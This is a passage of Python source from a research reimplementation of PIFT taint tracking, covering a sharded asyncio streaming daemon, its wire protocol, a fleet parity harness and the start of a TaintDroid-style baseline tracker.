        raise ProtocolError(f"events frame missing {error}") from error
    if not (len(kinds) == len(starts) == len(sizes)
            == len(indices) == len(pids)):
        raise ProtocolError("events frame columns disagree on length")
    for kind, start, size, index, pid in zip(
        kinds, starts, sizes, indices, pids
    ):
        yield MemoryAccess(
            AccessKind.LOAD if kind == "l" else AccessKind.STORE,
            AddressRange.from_base_size(int(start), int(size)),
            int(index),
            int(pid),
        )


def frame_range(frame: dict) -> AddressRange:
    """The ``start``/``size`` pair of a source/check frame as a range."""
    try:
        return AddressRange.from_base_size(
            int(frame["start"]), int(frame["size"])
        )
    except (KeyError, TypeError, ValueError) as error:
        raise ProtocolError(f"frame lacks a valid range: {error}") from error


def run_to_frames(
    recorded: RecordedRun, chunk: int = DEFAULT_CHUNK
) -> Iterator[dict]:
    """A recorded run as the canonical device frame sequence.

    Yields ``source`` / ``events`` / ``check`` frames in replay-plan
    order: the events before each plan boundary (chunked to ``chunk``),
    then that boundary's due sources, then its due checks — byte for
    byte the interleaving :func:`repro.analysis.replay.replay` drains,
    so streamed verdicts align 1:1 with batch ``sink_outcomes``.  The
    trailing ``end`` frame is the caller's to send (the client appends
    it once per *stream*, not per run).
    """
    if chunk < 1:
        raise ValueError("chunk must be >= 1")
    plan = replay_plan_for(recorded)
    events = recorded.trace.events
    source_i = check_i = 0
    position = 0

    def emit_events(upto: int) -> Iterator[dict]:
        nonlocal position
        while position < upto:
            stop = min(position + chunk, upto)
            yield events_frame(events[position:stop])
            position = stop

    def emit_boundary(sources_due: int, checks_due: int) -> Iterator[dict]:
        nonlocal source_i, check_i
        for source in plan.sources[source_i:source_i + sources_due]:
            yield source_frame(source)
        source_i += sources_due
        for check in plan.checks[check_i:check_i + checks_due]:
            yield check_frame(check)
        check_i += checks_due

    for boundary, sources_due, checks_due in plan.boundaries:
        yield from emit_events(boundary)
        yield from emit_boundary(sources_due, checks_due)
    yield from emit_events(len(events))
    yield from emit_boundary(plan.final_sources, plan.final_checks)


def verdict_key(verdict: dict) -> tuple:
    """The comparable identity of one verdict, mirroring batch
    :class:`~repro.analysis.replay.SinkOutcome` fields (colours included
    when present, so coloured parity diffs attribution too)."""
    return (
        verdict.get("sink"),
        verdict.get("channel"),
        verdict.get("index"),
        verdict.get("pid"),
        bool(verdict.get("tainted")),
        tuple(verdict.get("colours") or ()),
    )


def outcome_key(outcome) -> tuple:
    """Batch-side twin of :func:`verdict_key` for a ``SinkOutcome``."""
    return (
        outcome.sink_name,
        outcome.channel,
        outcome.instruction_index,
        outcome.pid,
        bool(outcome.tainted),
        tuple(outcome.colours),
    )


def error_frame(message: str, op: Optional[str] = None) -> dict:
    frame: Dict[str, object] = {"op": "error", "error": message}
    if op is not None:
        frame["request"] = op
    return frame

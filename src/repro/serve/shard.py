"""Tracker shards — the unit of state, placement, and migration.

A shard owns the complete PIFT state of one ``(device_id, pid)`` pair: a
:class:`~repro.core.buffered.BufferedPIFT` (whose wrapped tracker is a
:class:`~repro.core.tracker.PIFTTracker`, or a
:class:`~repro.core.tracker.ColourTracker` on a coloured daemon) plus
the ingest accounting the service layers report.  Sharding on
``(device, pid)`` is parity-safe by construction: Algorithm 1's taint
state, tainting windows, and instruction counters are all per-PID
already, so splitting PIDs across shards cannot change any verdict.

Shards are deliberately synchronous — every method runs to completion
without awaiting — so the async layers above (one event loop, many
tasks) get atomicity for free: a snapshot can never observe a shard
mid-mutation.

Migration is the :meth:`snapshot` / :meth:`TrackerShard.restore` pair
riding the PR 2 checkpoint machinery: the snapshot captures the wrapped
tracker (taint states, windows, colour space), the event FIFO and spill
queue, pending immediate checks with their sequence barriers, and the
buffer stats — everything needed for a different worker (or process) to
continue the stream with bit-identical verdicts.
"""

from __future__ import annotations

from typing import Iterable, List, Optional, Tuple

from repro.core.buffered import BufferedPIFT
from repro.core.colours import ColourSpace
from repro.core.config import OverflowPolicy, PIFTConfig
from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange

#: One shard key: the (device_id, pid) pair the router hashes on.
ShardKey = Tuple[str, int]

SHARD_SNAPSHOT_VERSION = 1


class ShardError(RuntimeError):
    """A shard operation that cannot be honoured (bad snapshot, ...)."""


class TrackerShard:
    """One device-process's live taint state behind a bounded FIFO."""

    __slots__ = (
        "key", "config", "coloured", "buffered",
        "events_ingested", "checks_answered", "sources_registered",
        "restores",
    )

    def __init__(
        self,
        key: ShardKey,
        config: PIFTConfig,
        capacity: int = 1024,
        drain_batch: int = 256,
        policy: OverflowPolicy = OverflowPolicy.BLOCK,
        high_watermark: Optional[int] = None,
        low_watermark: Optional[int] = None,
        coloured: bool = False,
        telemetry=None,
        on_backpressure=None,
    ) -> None:
        self.key = key
        self.config = config
        self.coloured = coloured
        self.buffered = BufferedPIFT(
            config,
            capacity=capacity,
            drain_batch=drain_batch,
            policy=policy,
            high_watermark=high_watermark,
            low_watermark=low_watermark,
            colours=ColourSpace() if coloured else None,
            telemetry=telemetry,
            on_backpressure=(
                (lambda engaged: on_backpressure(self, engaged))
                if on_backpressure is not None else None
            ),
        )
        self.events_ingested = 0
        self.checks_answered = 0
        self.sources_registered = 0
        self.restores = 0

    # -- ingest ----------------------------------------------------------

    def register_source(
        self, address_range: AddressRange, colour: Optional[str] = None
    ) -> None:
        """Synchronous source registration (drains first, like batch)."""
        device, pid = self.key
        if self.coloured:
            self.buffered.taint_source(address_range, pid=pid, colour=colour)
        else:
            self.buffered.taint_source(address_range, pid=pid)
        self.sources_registered += 1

    def ingest(self, events: Iterable[MemoryAccess]) -> int:
        """Append a chunk of events to the FIFO; returns the count."""
        on_event = self.buffered.on_memory_event
        count = 0
        for event in events:
            on_event(event)
            count += 1
        self.events_ingested += count
        return count

    def check(self, address_range: AddressRange, immediate: bool = False):
        """Answer one sink check.

        Blocking mode (the default — prevention semantics, and the mode
        under which fleet parity is proven) drains the FIFO first, so
        the verdict equals a batch replay's at the same stream position.
        Immediate mode answers from possibly-stale state and lets the
        reconciler log a late detection if the drain flips it.

        Returns ``(tainted, colours, degraded)``.
        """
        device, pid = self.key
        buffered = self.buffered
        self.checks_answered += 1
        if immediate:
            verdict = buffered.check_immediate_verdict(address_range, pid=pid)
            return verdict.tainted, list(verdict.colours), verdict.degraded
        if self.coloured:
            colours = buffered.check_blocking_colours(address_range, pid=pid)
            return bool(colours), list(colours), buffered.degraded
        tainted = buffered.check_blocking(address_range, pid=pid)
        return tainted, [], buffered.degraded

    # -- service plumbing ------------------------------------------------

    @property
    def queue_depth(self) -> int:
        return self.buffered.queue_depth + self.buffered.spill_depth

    @property
    def backpressure(self) -> bool:
        return self.buffered.backpressure

    def drain(self, batch: Optional[int] = None) -> int:
        """Process up to ``batch`` queued events (worker drain loop)."""
        return self.buffered.drain(batch)

    def late_detections(self) -> List[dict]:
        """The reconciler's late-detection log, JSON-ready."""
        return [
            {
                "sink": d.sink_name,
                "start": d.address_range.start,
                "size": d.address_range.size,
                "events_behind": d.events_behind,
                "degraded": d.degraded,
                "colours": list(d.colours),
            }
            for d in self.buffered.late_detections
        ]

    def stats(self) -> dict:
        device, pid = self.key
        buffer_stats = self.buffered.stats
        return {
            "device": device,
            "pid": pid,
            "coloured": self.coloured,
            "events_ingested": self.events_ingested,
            "sources_registered": self.sources_registered,
            "checks_answered": self.checks_answered,
            "queue_depth": self.queue_depth,
            "backpressure": self.backpressure,
            "backpressure_engagements": buffer_stats.backpressure_engagements,
            "forced_drops": buffer_stats.forced_drops,
            "degraded": self.buffered.degraded,
            "restores": self.restores,
        }

    # -- migration -------------------------------------------------------

    def snapshot(self) -> dict:
        """JSON-compatible checkpoint of everything the stream needs."""
        device, pid = self.key
        return {
            "version": SHARD_SNAPSHOT_VERSION,
            "device": device,
            "pid": pid,
            "coloured": self.coloured,
            "buffered": self.buffered.snapshot(),
            "counters": {
                "events_ingested": self.events_ingested,
                "checks_answered": self.checks_answered,
                "sources_registered": self.sources_registered,
                "restores": self.restores,
            },
        }

    def restore(self, snapshot: dict) -> None:
        """Adopt a :meth:`snapshot` taken from a same-shaped shard."""
        if snapshot.get("version") != SHARD_SNAPSHOT_VERSION:
            raise ShardError(
                f"shard snapshot version {snapshot.get('version')!r}, "
                f"expected {SHARD_SNAPSHOT_VERSION}"
            )
        if bool(snapshot.get("coloured")) != self.coloured:
            raise ShardError(
                "snapshot colour mode does not match this daemon "
                f"(snapshot coloured={snapshot.get('coloured')}, "
                f"daemon coloured={self.coloured})"
            )
        if (snapshot.get("device"), int(snapshot.get("pid", -1))) != self.key:
            raise ShardError(
                f"snapshot is for shard {snapshot.get('device')}/"
                f"{snapshot.get('pid')}, not {self.key[0]}/{self.key[1]}"
            )
        self.buffered.restore(snapshot["buffered"])
        counters = snapshot.get("counters", {})
        self.events_ingested = int(counters.get("events_ingested", 0))
        self.checks_answered = int(counters.get("checks_answered", 0))
        self.sources_registered = int(counters.get("sources_registered", 0))
        self.restores = int(counters.get("restores", 0)) + 1

"""The `repro serve` daemon: listeners, dispatch, scrape endpoint.

:class:`PIFTServer` binds up to three asyncio listeners on one event
loop:

* a TCP ingestion listener (many concurrent device connections),
* a unix-socket ingestion listener (same protocol, local devices and
  the admin client), and
* a tiny HTTP listener answering ``GET /metrics`` with the Prometheus
  text exposition the CLI already renders (``--metrics-dump prom``),
  plus serve-local series (shards, migrations, queue depth).

Each device connection is one handler task reading newline-delimited
frames (:mod:`repro.serve.protocol`).  The handler is where overflow
policy becomes *real* backpressure: after ingesting an ``events`` frame
it awaits the router's per-shard writability gate, so while a shard sits
above its high watermark the handler simply is not reading the socket —
the kernel's TCP window (or unix-socket buffer) fills and the device
blocks, exactly the flow-control story a hardware FIFO's almost-full
signal tells.  Verdicts stay ordered because sink checks are answered
in-line on the same connection, after a blocking drain.
"""

from __future__ import annotations

import asyncio
from typing import Dict, Optional, Tuple

from repro.serve import protocol
from repro.serve.router import ShardRouter
from repro.serve.shard import ShardError

#: The management vocabulary (any connection may speak it).
_ADMIN_OPS = frozenset(
    {"query", "stats", "drain", "restore", "migrate", "stop_worker",
     "shutdown"}
)

#: StreamReader line limit — an ``events`` frame of a few thousand
#: column-encoded events is far below this, but the default 64 KiB is
#: not, and a snapshot-carrying ``restore`` frame can be larger still.
READER_LIMIT = 16 * 1024 * 1024


class PIFTServer:
    """The long-lived daemon: router + listeners + scrape endpoint."""

    def __init__(self, router: ShardRouter, telemetry=None) -> None:
        self.router = router
        self.telemetry = telemetry
        self.shutdown_event = asyncio.Event()
        self.connections_served = 0
        self.frames_received = 0
        self._servers: list = []
        self.tcp_port: Optional[int] = None
        self.metrics_port: Optional[int] = None

    # -- lifecycle -------------------------------------------------------

    async def start(
        self,
        tcp: Optional[Tuple[str, int]] = None,
        unix_path: Optional[str] = None,
        metrics: Optional[Tuple[str, int]] = None,
    ) -> None:
        """Start the router workers and whichever listeners were asked."""
        await self.router.start()
        if tcp is not None:
            host, port = tcp
            server = await asyncio.start_server(
                self._handle_connection, host, port, limit=READER_LIMIT
            )
            self.tcp_port = server.sockets[0].getsockname()[1]
            self._servers.append(server)
        if unix_path is not None:
            server = await asyncio.start_unix_server(
                self._handle_connection, unix_path, limit=READER_LIMIT
            )
            self._servers.append(server)
        if metrics is not None:
            host, port = metrics
            server = await asyncio.start_server(
                self._handle_scrape, host, port, limit=READER_LIMIT
            )
            self.metrics_port = server.sockets[0].getsockname()[1]
            self._servers.append(server)

    async def stop(self) -> None:
        for server in self._servers:
            server.close()
            await server.wait_closed()
        self._servers.clear()
        await self.router.stop()

    async def run_until_shutdown(self) -> None:
        """Block until a ``shutdown`` admin frame (or .shutdown())."""
        await self.shutdown_event.wait()
        await self.stop()

    def shutdown(self) -> None:
        self.shutdown_event.set()

    # -- ingestion connections ------------------------------------------

    async def _handle_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.connections_served += 1
        device: Optional[str] = None
        router = self.router
        try:
            while True:
                line = await reader.readline()
                if not line:
                    break
                self.frames_received += 1
                try:
                    frame = protocol.decode_frame(line)
                except protocol.ProtocolError as error:
                    await self._send(writer, protocol.error_frame(str(error)))
                    continue
                op = frame.get("op")
                try:
                    if op == "hello":
                        device = await self._op_hello(frame, writer)
                    elif op == "events":
                        await self._op_events(device, frame, writer)
                    elif op == "source":
                        await self._op_source(device, frame, writer)
                    elif op == "check":
                        await self._op_check(device, frame, writer)
                    elif op == "reset":
                        dropped = router.reset_device(
                            self._require_device(device)
                        )
                        await self._send(
                            writer, {"op": "ack", "reset": dropped}
                        )
                    elif op == "end":
                        await self._send(writer, {
                            "op": "bye",
                            "device": device,
                            "verdicts": len(
                                router.device_verdicts(device)
                            ) if device else 0,
                        })
                        break
                    elif op in _ADMIN_OPS:
                        done = await self._op_admin(op, frame, writer)
                        if done:
                            break
                    else:
                        await self._send(writer, protocol.error_frame(
                            f"unknown op {op!r}", op=str(op)
                        ))
                except (protocol.ProtocolError, ShardError,
                        ValueError, KeyError) as error:
                    await self._send(
                        writer,
                        protocol.error_frame(str(error), op=str(op)),
                    )
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionError, BrokenPipeError):  # pragma: no cover
                pass

    @staticmethod
    def _require_device(device: Optional[str]) -> str:
        if device is None:
            raise protocol.ProtocolError("no hello yet on this connection")
        return device

    async def _send(self, writer: asyncio.StreamWriter, frame: dict) -> None:
        writer.write(protocol.encode_frame(frame))
        await writer.drain()

    # -- device ops ------------------------------------------------------

    async def _op_hello(self, frame: dict, writer) -> str:
        version = int(frame.get("version", -1))
        if version != protocol.PROTOCOL_VERSION:
            raise protocol.ProtocolError(
                f"protocol version {version} unsupported "
                f"(server speaks {protocol.PROTOCOL_VERSION})"
            )
        device = str(frame.get("device", ""))
        if not device:
            raise protocol.ProtocolError("hello without a device name")
        wants_colours = bool(frame.get("colours", False))
        if wants_colours != self.router.coloured:
            raise protocol.ProtocolError(
                "colour-mode mismatch: device wants "
                f"colours={wants_colours}, daemon runs "
                f"colours={self.router.coloured}"
            )
        await self._send(writer, {
            "op": "welcome",
            "version": protocol.PROTOCOL_VERSION,
            "colours": self.router.coloured,
        })
        return device

    async def _op_events(self, device, frame: dict, writer) -> None:
        device = self._require_device(device)
        router = self.router
        touched = []
        grouped: Dict[int, list] = {}
        for event in protocol.decode_events(frame):
            grouped.setdefault(event.pid, []).append(event)
        for pid, events in grouped.items():
            shard = await router.shard_for(device, pid)
            shard.ingest(events)
            router.notify_ingest(shard)
            touched.append(shard)
        # Real backpressure: while any touched shard sits above its high
        # watermark, this handler stops reading the socket.  The worker
        # drains in the background; the gate reopens at the low
        # watermark and reading resumes.
        for shard in touched:
            await router.wait_writable(shard)

    async def _op_source(self, device, frame: dict, writer) -> None:
        device = self._require_device(device)
        shard = await self.router.shard_for(device, int(frame.get("pid", 0)))
        shard.register_source(
            protocol.frame_range(frame),
            colour=(
                str(frame.get("colour") or frame.get("name") or "")
                if self.router.coloured else None
            ),
        )

    async def _op_check(self, device, frame: dict, writer) -> None:
        device = self._require_device(device)
        shard = await self.router.shard_for(device, int(frame.get("pid", 0)))
        tainted, colours, degraded = shard.check(
            protocol.frame_range(frame),
            immediate=bool(frame.get("immediate", False)),
        )
        verdict = {
            "op": "verdict",
            "sink": frame.get("sink", ""),
            "channel": frame.get("channel", ""),
            "index": frame.get("index", 0),
            "pid": frame.get("pid", 0),
            "tainted": tainted,
            "colours": colours,
            "degraded": degraded,
        }
        self.router.record_verdict(device, verdict)
        await self._send(writer, verdict)

    # -- admin ops -------------------------------------------------------

    async def _op_admin(self, op: str, frame: dict, writer) -> bool:
        router = self.router
        if op == "query":
            device = str(frame.get("device", ""))
            await self._send(writer, {
                "op": "query_result",
                "device": device,
                "verdicts": router.device_verdicts(device),
                "attribution": router.device_attribution(device),
                "shards": [
                    shard.stats()
                    for key, shard in sorted(router.shards.items())
                    if key[0] == device
                ],
                "late_detections": [
                    d
                    for key, shard in sorted(router.shards.items())
                    if key[0] == device
                    for d in shard.late_detections()
                ],
            })
        elif op == "stats":
            await self._send(writer, {
                "op": "stats_result",
                "server": {
                    "connections_served": self.connections_served,
                    "frames_received": self.frames_received,
                    "devices": router.devices(),
                },
                **router.stats(),
            })
        elif op == "drain":
            snapshot = router.drain_shard(
                str(frame.get("device", "")), int(frame.get("pid", 0))
            )
            await self._send(
                writer, {"op": "drained", "snapshot": snapshot}
            )
        elif op == "restore":
            worker = frame.get("worker")
            placed = router.restore_shard(
                frame.get("snapshot") or {},
                worker_id=None if worker is None else int(worker),
            )
            await self._send(writer, {"op": "restored", "worker": placed})
        elif op == "migrate":
            device = str(frame.get("device", ""))
            pid = int(frame.get("pid", 0))
            worker = frame.get("worker")
            snapshot = router.drain_shard(device, pid)
            placed = router.restore_shard(
                snapshot, worker_id=None if worker is None else int(worker)
            )
            await self._send(writer, {"op": "migrated", "worker": placed})
        elif op == "stop_worker":
            migrated = await router.stop_worker(int(frame.get("worker", -1)))
            await self._send(writer, {
                "op": "worker_stopped",
                "worker": int(frame.get("worker", -1)),
                "migrated": [[device, pid] for device, pid in migrated],
            })
        elif op == "shutdown":
            await self._send(writer, {"op": "ack", "shutdown": True})
            self.shutdown()
            return True
        return False

    # -- metrics scrape endpoint ----------------------------------------

    def _serve_metrics_text(self) -> str:
        """Serve-local Prometheus series appended after the registry's."""
        stats = self.router.stats()
        lines = []

        def gauge(name: str, help_text: str, value) -> None:
            lines.append(f"# HELP {name} {help_text}")
            lines.append(f"# TYPE {name} gauge")
            lines.append(f"{name} {value}")

        def counter(name: str, help_text: str, value) -> None:
            lines.append(f"# HELP {name} {help_text}")
            lines.append(f"# TYPE {name} counter")
            lines.append(f"{name}_total {value}")

        gauge("pift_serve_shards", "live tracker shards", stats["shards"])
        gauge("pift_serve_parked_shards",
              "shards parked mid-migration", stats["parked"])
        gauge("pift_serve_devices", "devices seen", stats["devices"])
        gauge("pift_serve_queue_depth",
              "events waiting across all shard FIFOs",
              stats["queue_depth"])
        counter("pift_serve_migrations",
                "shard drain/restore migrations completed",
                stats["migrations"])
        counter("pift_serve_events_ingested",
                "events accepted across all live shards",
                stats["events_ingested"])
        counter("pift_serve_checks_answered",
                "sink checks answered across all live shards",
                stats["checks_answered"])
        counter("pift_serve_forced_drops",
                "events lost to overflow policies across live shards",
                stats["forced_drops"])
        counter("pift_serve_connections",
                "ingestion connections accepted", self.connections_served)
        counter("pift_serve_frames",
                "protocol frames received", self.frames_received)
        return "\n".join(lines) + "\n"

    async def _handle_scrape(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """A deliberately tiny HTTP/1.0 responder for GET /metrics."""
        from repro.telemetry.exporters import (
            PROMETHEUS_CONTENT_TYPE, scrape_body,
        )
        try:
            request = await reader.readline()
            while True:  # drain request headers
                header = await reader.readline()
                if header in (b"\r\n", b"\n", b""):
                    break
            parts = request.decode("latin-1", "replace").split()
            path = parts[1] if len(parts) > 1 else ""
            if len(parts) < 2 or parts[0] != "GET":
                status, body = "405 Method Not Allowed", b"GET only\n"
                content_type = "text/plain"
            elif path not in ("/metrics", "/metrics/"):
                status, body = "404 Not Found", b"try /metrics\n"
                content_type = "text/plain"
            else:
                status = "200 OK"
                extra = self._serve_metrics_text()
                if self.telemetry is not None and self.telemetry.enabled:
                    body, content_type = scrape_body(
                        self.telemetry.metrics, extra_text=extra
                    )
                else:
                    body = extra.encode("utf-8")
                    content_type = PROMETHEUS_CONTENT_TYPE
            writer.write(
                f"HTTP/1.0 {status}\r\n"
                f"Content-Type: {content_type}\r\n"
                f"Content-Length: {len(body)}\r\n"
                "Connection: close\r\n\r\n".encode("latin-1")
            )
            writer.write(body)
            await writer.drain()
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionError, BrokenPipeError):  # pragma: no cover
                pass

"""Fleet simulation: N concurrent devices vs batch replay, byte for byte.

The proof obligation of the serve subsystem lives here.  ``run_fleet``
takes recorded runs — a list, or a *lazy iterator* such as
:func:`repro.store.suitefile.iter_suite_runs` — deals them to N
simulated devices pulling from a shared queue, streams them concurrently
through a daemon (self-hosted on a unix socket by default, or any
external endpoint), and diffs every streamed verdict against a batch
replay of the same run under the same config.  The comparison is the
full identity tuple (sink, channel, instruction index, pid, tainted,
**colours**), so a coloured fleet proves attribution parity too, not
just verdict bits.

Memory stays proportional to the runs in flight (≤ devices), never the
suite: each run is decoded, batch-replayed for its truth, streamed,
compared, and dropped before the device pulls the next.

With ``migrate=True`` the harness additionally fires the chaos scenario
mid-stream, while every device is still sending:

1. ``drain`` the streaming shard over an admin connection — the
   snapshot crosses the wire to the client;
2. ``restore`` that same snapshot back onto a *different* worker;
3. ``stop_worker`` on worker 0 — killing a live drain engine and forcing
   the router to migrate every shard it still owned.

If the final diff is empty after all that, migration is verdict-
invisible — the acceptance criterion of the subsystem.
"""

from __future__ import annotations

import asyncio
import os
import tempfile
import time
from typing import Iterator, List, Optional, Sequence, Tuple

from repro.analysis.replay import replay, replay_coloured
from repro.core.config import PAPER_DEFAULT, OverflowPolicy, PIFTConfig
from repro.serve import protocol
from repro.serve.client import AdminClient, DeviceClient
from repro.serve.router import ShardRouter
from repro.serve.server import PIFTServer

#: Cap on reported mismatches — the diff is usually empty or systematic,
#: and a systematic failure does not need ten thousand witnesses.
MAX_MISMATCHES = 20


def _iter_named(runs) -> Iterator[Tuple[str, object]]:
    """Normalise ``AppRun``-likes / ``(name, recorded)`` pairs, lazily."""
    seen = set()
    for i, run in enumerate(runs):
        if isinstance(run, tuple):
            name, recorded = run
        else:
            name = getattr(run, "name", f"run-{i}")
            recorded = getattr(run, "recorded", run)
        name = str(name)
        if name in seen:  # parity rows are keyed by name — keep unique
            name = f"{name}#{i}"
        seen.add(name)
        yield name, recorded


def _first_pid(frames: Sequence[dict]) -> Optional[int]:
    """The pid whose shard frame 0 creates (migration target)."""
    if not frames:
        return None
    frame = frames[0]
    if "pid" in frame:
        return int(frame["pid"])
    pids = frame.get("pids") or ()
    return int(pids[0]) if pids else None


async def run_fleet(
    runs,
    devices: int = 4,
    coloured: bool = False,
    migrate: bool = False,
    config: PIFTConfig = PAPER_DEFAULT,
    chunk: int = protocol.DEFAULT_CHUNK,
    workers: int = 2,
    capacity: int = 1024,
    drain_batch: int = 256,
    policy: OverflowPolicy = OverflowPolicy.BLOCK,
    high_watermark: Optional[int] = None,
    low_watermark: Optional[int] = None,
    host: Optional[str] = None,
    port: Optional[int] = None,
    unix_path: Optional[str] = None,
    telemetry=None,
) -> dict:
    """Stream ``runs`` as ``devices`` concurrent device connections and
    diff the verdicts against batch replay.  Returns the parity report.

    Self-hosts a daemon on a throwaway unix socket unless an endpoint
    (``host``/``port`` or ``unix_path``) points at an external one.
    """
    if devices < 1:
        raise ValueError("devices must be >= 1")
    if migrate and workers < 2:
        raise ValueError("migrate needs workers >= 2 (a worker is killed)")

    server: Optional[PIFTServer] = None
    tmpdir: Optional[tempfile.TemporaryDirectory] = None
    if host is None and unix_path is None:
        tmpdir = tempfile.TemporaryDirectory(prefix="pift-serve-")
        unix_path = os.path.join(tmpdir.name, "serve.sock")
        router = ShardRouter(
            config,
            workers=workers,
            capacity=capacity,
            drain_batch=drain_batch,
            policy=policy,
            high_watermark=high_watermark,
            low_watermark=low_watermark,
            coloured=coloured,
            telemetry=telemetry,
        )
        server = PIFTServer(router, telemetry=telemetry)
        await server.start(unix_path=unix_path)

    endpoint = {"host": host, "port": port, "unix_path": unix_path}
    run_iter = _iter_named(runs)
    pull_lock = asyncio.Lock()
    totals = {"runs": 0, "checks": 0, "verdicts": 0, "events": 0}
    mismatches: List[dict] = []
    migration = {"armed": bool(migrate), "report": None}

    async def next_run() -> Optional[Tuple[str, object]]:
        async with pull_lock:
            return next(run_iter, None)

    async def _fire_migration(device_name: str, pid: int) -> None:
        """Drain→wire→restore the streaming shard, then kill worker 0."""
        admin = await AdminClient.connect(**endpoint)
        try:
            snapshot = await admin.drain(device_name, pid)
            placed = await admin.restore(snapshot, worker=1)
            killed = await admin.stop_worker(0)
            migration["report"] = {
                "device": device_name,
                "pid": pid,
                "restored_to_worker": placed,
                "killed_worker": 0,
                "shards_migrated_by_kill": len(killed),
                "snapshot_bytes": len(protocol.encode_frame(snapshot)),
            }
        finally:
            await admin.close()

    def _diff(name: str, got: List[tuple], want: List[tuple]) -> None:
        if got == want:
            return
        for i in range(max(len(got), len(want))):
            if len(mismatches) >= MAX_MISMATCHES:
                return
            g = got[i] if i < len(got) else None
            w = want[i] if i < len(want) else None
            if g != w:
                mismatches.append(
                    {"run": name, "index": i,
                     "streamed": list(g) if g else None,
                     "batch": list(w) if w else None}
                )

    async def run_device(index: int) -> None:
        device_name = f"device-{index:02d}"
        client: Optional[DeviceClient] = None
        try:
            while True:
                item = await next_run()
                if item is None:
                    break
                name, recorded = item
                if client is None:
                    client = await DeviceClient.connect(
                        device_name, colours=coloured, **endpoint
                    )
                else:
                    await client.reset()  # fresh shards, like batch's
                    # fresh tracker per run

                # The batch truth for this run, computed just in time so
                # a streamed suite never sits fully decoded in memory.
                result = (
                    replay_coloured(recorded, config) if coloured
                    else replay(recorded, config)
                )
                want = [
                    protocol.outcome_key(o) for o in result.sink_outcomes
                ]

                after_frame = None
                if migration["armed"]:
                    frames = list(protocol.run_to_frames(recorded, chunk))
                    pid = _first_pid(frames)
                    if pid is not None:
                        migration["armed"] = False
                        fire_at = max(0, len(frames) // 2 - 1)

                        async def after_frame(i, frame, _pid=pid,
                                              _at=fire_at,
                                              _dev=device_name):
                            if i == _at:
                                await _fire_migration(_dev, _pid)

                verdicts = await client.stream_run(
                    recorded, chunk=chunk, after_frame=after_frame
                )
                got = [protocol.verdict_key(v) for v in verdicts]
                totals["runs"] += 1
                totals["checks"] += len(want)
                totals["verdicts"] += len(got)
                _diff(name, got, want)
            if client is not None:
                totals["events"] += client.events_sent
                await client.end()
                client = None
        finally:
            if client is not None:
                await client.close()

    started = time.perf_counter()
    await asyncio.gather(*(run_device(i) for i in range(devices)))
    elapsed = time.perf_counter() - started

    # Post-stream: query API + server accounting, then tear down.
    admin = await AdminClient.connect(**endpoint)
    try:
        server_stats = await admin.stats()
        query0 = await admin.query("device-00")
        if server is not None:
            await admin.shutdown()
        else:
            await admin.close()
    except BaseException:
        await admin.close()
        raise

    if server is not None:
        await server.stop()
    if tmpdir is not None:
        tmpdir.cleanup()

    if totals["runs"] == 0:
        raise ValueError("run_fleet needs at least one recorded run")

    server_stats.pop("op", None)
    return {
        "devices": devices,
        "workers": workers,
        "runs": totals["runs"],
        "coloured": coloured,
        "checks": totals["checks"],
        "verdicts": totals["verdicts"],
        "events_streamed": totals["events"],
        "parity": not mismatches,
        "mismatches": mismatches,
        "migrate": bool(migrate),
        "migration": migration["report"],
        "attribution": query0.get("attribution", []),
        "server_stats": server_stats,
        "elapsed_s": round(elapsed, 6),
        "events_per_s": (
            round(totals["events"] / elapsed) if elapsed else 0
        ),
    }


def run_fleet_sync(runs, **kwargs) -> dict:
    """Blocking wrapper: one event loop per fleet (CLI / bench entry)."""
    return asyncio.run(run_fleet(runs, **kwargs))

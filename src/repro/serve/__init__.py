"""`repro.serve` — online streaming service mode.

Batch replay turned into a long-lived, sharded asyncio daemon: many
concurrent simulated devices stream newline-delimited JSON event frames
(TCP or unix socket), a :class:`~repro.serve.router.ShardRouter` keys
tracker shards on ``(device_id, pid)``, overflow watermarks become real
socket backpressure, and the PR 2 snapshot machinery becomes live
shard migration (``drain`` / ``restore``) with bit-identical verdicts —
proven end to end by :func:`~repro.serve.fleet.run_fleet`.

Module map::

    protocol  -- wire frames + run_to_frames (replay-plan ordering)
    shard     -- TrackerShard: one (device, pid)'s BufferedPIFT + state
    router    -- placement, drain workers, backpressure gates, migration
    server    -- PIFTServer: listeners, dispatch, /metrics scrape
    client    -- DeviceClient / AdminClient
    fleet     -- N-device parity harness vs batch replay
"""

from repro.serve.client import AdminClient, DeviceClient, ServeClientError
from repro.serve.fleet import run_fleet, run_fleet_sync
from repro.serve.protocol import (
    DEFAULT_CHUNK,
    PROTOCOL_VERSION,
    ProtocolError,
    run_to_frames,
)
from repro.serve.router import ShardRouter, ShardWorker
from repro.serve.server import PIFTServer
from repro.serve.shard import ShardError, ShardKey, TrackerShard

__all__ = [
    "AdminClient",
    "DEFAULT_CHUNK",
    "DeviceClient",
    "PIFTServer",
    "PROTOCOL_VERSION",
    "ProtocolError",
    "ServeClientError",
    "ShardError",
    "ShardKey",
    "ShardRouter",
    "ShardWorker",
    "TrackerShard",
    "run_fleet",
    "run_fleet_sync",
    "run_to_frames",
]

"""Baselines PIFT is compared against: full register-level DIFT (the
byte-exact oracle) and a TaintDroid-style variable-granularity tracker."""

from repro.baseline.full_tracker import FullDIFTTracker, FullTrackerStats
from repro.baseline.taintdroid import (
    SINK_METHODS,
    SOURCE_METHODS,
    TaintDroidSinkEvent,
    TaintDroidTracker,
)

__all__ = [
    "FullDIFTTracker",
    "FullTrackerStats",
    "SINK_METHODS",
    "SOURCE_METHODS",
    "TaintDroidSinkEvent",
    "TaintDroidTracker",
]

"""A TaintDroid-style variable-granularity tracker (paper §6, Enck et al.).

The paper's closest software comparison point: TaintDroid instruments the
Dalvik interpreter and tracks taint at *variable* granularity — per
virtual register, per instance field, per static field — with two
signature coarsenings:

* **arrays carry one taint tag for the whole array** (storing one tainted
  element taints every element — the source of TaintDroid's documented
  false positives on DroidBench's ArrayAccess/ListAccess apps), and
* **native methods are not tracked**; instead "a heuristic that
  propagates the taint of input arguments to that of the return value"
  is applied (and, here, conservatively to the receiver object of
  mutating framework calls).

Implemented as a VM step observer: it watches every bytecode before it
executes and maintains its own taint maps, entirely independent of PIFT.
Running both on one device gives the three-way comparison in
``benchmarks/bench_ablation_taintdroid.py``: byte-exact full DIFT vs PIFT
